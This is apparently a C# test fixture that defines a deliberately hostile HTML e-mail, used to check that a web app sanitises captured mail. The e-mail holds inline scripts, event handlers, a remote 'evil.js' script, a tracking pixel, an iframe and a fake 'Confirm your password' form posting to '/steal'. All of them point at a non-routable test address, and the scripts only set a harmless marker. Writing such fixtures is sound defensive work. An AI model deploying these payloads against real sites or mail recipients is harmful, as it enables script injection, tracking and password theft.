namespace Capture.Web.Tests.Support;

/// <summary>
/// A captured e-mail whose HTML tries everything a page must never do with it: scripts, event handlers, a remote
/// image, a style with a remote url(), a form and an iframe, all aimed at <see cref="RemoteHost"/>, plus a script tag
/// written as text. Its one unusual word, <see cref="Word"/>, finds it.
/// </summary>
public static class HostileHtmlMail
{
    public const string FileName = "hostile-html-mail.eml";

    /// <summary>An address of TEST-NET-3 (RFC 5737): nothing answers there, and no request may go there at all.</summary>
    public const string RemoteHost = "203.0.113.7";

    public const string Word = "Zephyrblender";

    /// <summary>Text of the mail that looks like a script once its entities are decoded.</summary>
    public const string ScriptAsText = "<script>window.__pwned = 'text'</script>";

    public const string Content = $"""
        From: Mallory Example <mallory@example.net>
        To: Customer Service <customer.service@example.com>
        Subject: My {Word} broke after two days
        Date: Tue, 17 Nov 2026 10:00:00 +0000
        Message-ID: <hostile-html-1@example.net>
        MIME-Version: 1.0
        Content-Type: text/html; charset=utf-8

        <html><head><title>pwned</title>
        <style>body {"{"} background: url(http://{RemoteHost}/background.png) {"}"}</style>
        <script>window.__pwned = true; document.title = 'pwned';</script>
        <script src="http://{RemoteHost}/evil.js"></script>
        </head>
        <body onload="window.__pwned = 'onload'">
        <p>Dear Customer Service, my {Word} blender broke after two days and I want a refund.</p>
        <p>&lt;script&gt;window.__pwned = 'text'&lt;/script&gt;</p>
        <img src="http://{RemoteHost}/track.png" onerror="window.__pwned = 'onerror'" width="1" height="1">
        <form action="http://{RemoteHost}/steal" method="post"><input name="password"><button>Confirm your password</button></form>
        <iframe src="http://{RemoteHost}/frame"></iframe>
        <p style="background-image: url('http://{RemoteHost}/style.png')">Regards, Mallory</p>
        </body></html>
        """;
}
